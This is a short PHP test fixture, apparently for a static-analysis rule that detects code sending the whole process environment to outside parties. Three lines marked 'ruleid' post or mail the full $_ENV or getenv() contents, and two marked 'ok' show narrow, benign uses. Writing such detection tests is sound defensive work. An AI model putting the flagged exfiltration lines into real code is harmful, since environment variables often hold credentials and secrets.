<?php
function report($handle)
{
    // ruleid: php-environment-sent
    curl_setopt($handle, CURLOPT_POSTFIELDS, json_encode($_ENV));
    // ruleid: php-environment-sent
    curl_setopt($handle, CURLOPT_POSTFIELDS, http_build_query(getenv()));
    // ruleid: php-environment-sent
    mail("a@example.net", "env", print_r($_ENV, true));
    // ok: php-environment-sent
    curl_setopt($handle, CURLOPT_POSTFIELDS, json_encode(["name" => getenv("NAME")]));
    // ok: php-environment-sent
    curl_setopt($handle, CURLOPT_URL, $_ENV["HOOK"]);
}
